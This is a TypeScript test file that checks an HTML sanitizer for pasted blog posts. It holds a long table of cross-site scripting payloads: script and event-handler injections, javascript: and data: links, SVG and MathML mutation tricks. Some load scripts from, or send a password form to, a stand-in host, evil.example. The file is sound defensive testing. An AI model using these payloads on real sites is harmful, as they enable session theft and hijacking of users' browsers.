import { describe, expect, test } from 'vitest'
import { cleanHtml } from './html-rules.ts'

/** Known ways to smuggle something that runs, loads or leads astray past a cleaner, each by its name. */
const attacks: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script in mixed case': '<ScRiPt SrC=//evil.example/x.js></sCrIpT >',
  'a script with a slash for a space': '<script/src=data:,alert(1)></script>',
  'a script inside a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script without an end': '<p>a</p><script>alert(1)',
  'a script with two angle brackets': '<<script>alert(1)//<</script>',
  'a script split by a null byte': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'an image that fails, with slashes': '<img/src=`x`/onerror=alert(1)//',
  'an image without an end': '<p>a</p><img src="x" onerror="alert(1)"',
  'an image with a quote too many': '<img """><script>alert(1)</script>">',
  'an image with a line break in its handler': '<img src=x\nonerror\n=\nalert(1)>',
  'an image with a null byte in its handler': '<img src=x onerr\u0000or=alert(1)>',
  'an image that loads': '<img src="/pictures/blog-paid.svg" onload=alert(1)>',
  'an image of data': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'an image over plain http': '<img src="http://evil.example/spy.gif">',
  'an image of another site': '<img src="https://tracker.example/pixel.gif" alt="x">',
  'an image without a scheme': '<img src="//evil.example/spy.gif">',
  'an image with a source set': '<img src="/a.svg" srcset="//evil.example/a 2x, javascript:alert(1) 3x">',
  'an image with a style': '<img src="/a.svg" style="background:url(javascript:alert(1))">',
  'an image map': '<img src="/a.svg" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>',
  'an attribute that closes its quote': '<img src="/a.svg" alt="&quot; onerror=&quot;alert(1)">',
  'an attribute with a backtick': '<img src="/a.svg" alt="``onerror=alert(1)">',
  'a javascript link': '<a href="javascript:alert(1)">x</a>',
  'a javascript link in mixed case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'a javascript link in numbers':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'a javascript link in numbers without ends': '<a href=&#0000106&#0000097&#0000118&#0000097script:alert(1)>x</a>',
  'a javascript link in hexadecimal':
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  'a javascript link with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'a javascript link with an encoded tab and newline': '<a href="java&Tab;script&NewLine;&colon;alert(1)">x</a>',
  'a javascript link behind control characters': '<a href="&#1;&#14; javascript:alert(1)">x</a>',
  'a javascript link behind a null byte': '<a href="\u0000javascript:alert(1)">x</a>',
  'a javascript link that looks like a host': '<a href="javascript://evil.example/%0Aalert(1)">x</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'a data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a blob link': '<a href="blob:https://evil.example/1">x</a>',
  'a link without a scheme': '<a href="//evil.example">x</a>',
  'a link with backslashes': '<a href="/\\evil.example">x</a>',
  'a link with a tab between its slashes': '<a href="/\t/evil.example">x</a>',
  'a path that folds into a host': '<a href="/.//evil.example">x</a>',
  'a link that is clicked by itself': '<a href="/x" autofocus tabindex=1 onfocus=alert(1)>x</a>',
  'a link that pings': '<a href="/x" ping="https://evil.example" target="_blank">x</a>',
  'a handler on an allowed element': '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  'a handler after a slash': '<p/onpointerenter=alert(1)>x</p>',
  'a handler in a namespace': '<p x:onclick="alert(1)" xlink:href="javascript:alert(1)">x</p>',
  'a style attribute': '<p style="background-image:url(javascript:alert(1));behavior:url(x.htc)">x</p>',
  'a style element': '<style>@import "https://evil.example/x.css"; p{background:url(javascript:alert(1))}</style>',
  'a style that never ends': '<style><p title="</style><img src=x onerror=alert(1)>">',
  'an id that hides a global': '<p id="location" name="cookie">x</p><form name=body><input name=firstChild></form>',
  'an svg that loads': '<svg onload=alert(1)>',
  'an svg script': '<svg><script>alert(1)</script></svg>',
  'an svg script in numbers': '<svg><script>&#97;lert(1)</script></svg>',
  'an svg animation of a link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'an svg use': '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>',
  'an svg foreign object': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  'an svg title that ends early': '<svg><title><p title="</title><img src=x onerror=alert(1)>"></title></svg>',
  'a maths link': '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  'a maths text integration point':
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'a maths and form mutation':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>',
  'an annotation of maths':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  'an svg and style mutation': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'a noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a noembed mutation': '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  'a textarea mutation': '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'an xmp mutation': '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
  'a plaintext end': '<plaintext><img src=x onerror=alert(1)>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment that ends with a bang': '<!-- --!><img src=x onerror=alert(1)> -->',
  'a conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'a cdata section': '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'a processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a declared shadow root': '<p><template shadowrootmode="open"><script>alert(1)</script></template></p>',
  'a frame': '<iframe src="javascript:alert(1)"></iframe>',
  'a frame with its own document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a frame with a fallback': '<iframe><img src=x onerror=alert(1)></iframe>',
  'a frame set': '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  'an object': '<object data="data:text/html,<script>alert(1)</script>"><param name=movie value=x></object>',
  'an embed': '<embed src="javascript:alert(1)" allowscriptaccess=always>',
  'a form that sends itself away':
    '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)></form>',
  'a button with an action': '<form><button formaction="javascript:alert(1)">x</button></form>',
  'an isindex': '<isindex type=image src=1 onerror=alert(1)>',
  'a base': '<base href="https://evil.example/"><a href="x">x</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'a policy of its own': '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  'a stylesheet': '<link rel=stylesheet href="https://evil.example/x.css"><link rel=import href="//evil.example">',
  'a body': '<body onload=alert(1) background="javascript:alert(1)"><p>x</p></body>',
  'a marquee': '<marquee onstart=alert(1)>x</marquee>',
  'details that open': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'a video': '<video poster="javascript:alert(1)"><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  'a table with a background':
    '<table background="javascript:alert(1)"><td background="//evil.example/a">x</td></table>',
  'an element of its own': '<x-evil onclick=alert(1)>x</x-evil><slot onslotchange=alert(1)></slot>',
  'a name from the prototype':
    '<constructor>x</constructor><__proto__ onclick=alert(1)>x</__proto__><tostring>x</tostring>',
  'an anchor that swallows a quote': `<a href="/x" title='"><img src=x onerror=alert(1)>'>x</a>`,
  'text that is escaped twice': '&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;',
}

const allowed =
  'H2 H3 H4 P UL OL LI BLOCKQUOTE FIGURE FIGCAPTION IMG A CODE PRE TABLE CAPTION THEAD TBODY TFOOT TR TH TD STRONG EM B I HR BR'
const attributes = 'href rel src alt width height loading start colspan rowspan scope'.split(' ')
const ownPath = /^\/(?![/\\])/

/** Everything in the tree that could run, load or lead away; nothing when it is clean. */
function findings(root: Element): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) => [
    ...(allowed.split(' ').includes(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      const isAddress = name === 'href' || name === 'src'
      const isGood = ownPath.test(value) || (name === 'href' && /^(https?:\/\/|mailto:)/.test(value))
      return !attributes.includes(name) || (isAddress && !isGood) ? [`${element.tagName} ${name}="${value}"`] : []
    }),
  ])
}

/** As a document without scripts would read it. */
const inert = (html: string): Element => new DOMParser().parseFromString(html, 'text/html').body

/** The same, and as the page's own script would put it in. */
function readings(html: string): Element[] {
  const inside = document.createElement('div')
  inside.innerHTML = html
  return [inside, inert(html)]
}

describe('BLOG-5 pasted HTML runs nothing, loads nothing and links to nothing that is not allowed', () => {
  test.each(Object.entries(attacks))('%s', (_name, attack) => {
    // On its own, inside what it could break out of, and with something behind it.
    for (const html of [
      attack,
      `<blockquote><p>${attack}</p></blockquote>`,
      `<table><tr><td>${attack}`,
      `${attack}<p>`,
    ]) {
      const clean = cleanHtml(html)
      // It is cleaned on the way in and again on the way out.
      for (const reading of [...readings(clean), ...readings(cleanHtml(clean))]) {
        expect(findings(reading)).toEqual([])
        // What a browser makes of its own writing, where mutations show.
        for (const again of readings(reading.innerHTML)) expect(findings(again)).toEqual([])
      }
    }
  })

  test('the check itself finds what is not clean', () => {
    const seen = Object.values(attacks).filter((attack) => findings(inert(attack)).length > 0)
    expect(seen.length).toBeGreaterThan(60)
  })

  test('ten thousand nested elements are cleaned too', () => {
    const deep = cleanHtml(`${'<blockquote>'.repeat(10_000)}deep${'</blockquote>'.repeat(10_000)}`)
    expect(deep).toContain('deep')
    expect(deep.length).toBeLessThan(3_000)
  })
})

describe('BLOG-5 what a post needs stays', () => {
  test('text, lists, tables, pictures and code come through as they were', () => {
    const post = [
      '<h2>Price it</h2><h3>Once</h3><h4>On paper</h4><p>Five &amp; six, <strong>seven</strong> <em>eight</em> <b>b</b> <i>i</i><br />nine.</p>',
      '<ol start="3"><li>a</li></ol><ul><li>b</li></ul><blockquote>q</blockquote><hr /><pre><code>a &lt; b</code></pre>',
      '<figure><img src="/pictures/blog-paid.svg" alt="An invoice" width="640" height="360" loading="lazy" /><figcaption>c</figcaption></figure>',
      '<table><caption>t</caption><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">d</td></tr></tbody></table>',
      '<p><a href="/contact">ours</a>, <a href="mailto:sam@example.com">mail</a></p>',
    ].join('')
    expect(cleanHtml(post)).toBe(post)
  })

  test('a link to another site is nofollow, a picture has a text, a heading ranks below the page’s own', () => {
    expect(cleanHtml('<a href=" HTTPS://Example.com/a b " target=_blank rel=opener>x</a>')).toBe(
      '<a href="https://example.com/a%20b" rel="noopener nofollow">x</a>',
    )
    expect(cleanHtml('<img src=/a.svg>')).toBe('<img src="/a.svg" alt="" loading="lazy" />')
    expect(cleanHtml('<h1>a</h1><h6>b</h6>')).toBe('<h2>a</h2><h4>b</h4>')
  })

  test('a link to this site’s API is removed, however it is written; another site’s stays', () => {
    const own = ['https://alliance.example']
    const calls = '/api/logout /api /./api/logout?x=1 /%61pi/logout /API/logout /sandbox/mail/1'.split(' ')
    for (const path of [...calls, ...calls.map((call) => own[0] + call)]) {
      expect([path, cleanHtml(`<p>a<img src="${path}"><a href="${path}">b</a></p>`, own)]).toEqual([path, '<p>ab</p>'])
    }
    for (const good of ['/apiary', 'https://docs.example/api/list', '/blog/api/', 'mailto:api@example.com']) {
      expect(cleanHtml(`<a href="${good}">b</a>`, own)).toContain(`href="${good}"`)
    }
  })

  test('the text of removed elements stays where it is text', () => {
    expect(cleanHtml('<div class=x><span>Call </span><a href="javascript:x">us</a></div>')).toBe('Call us')
  })
})
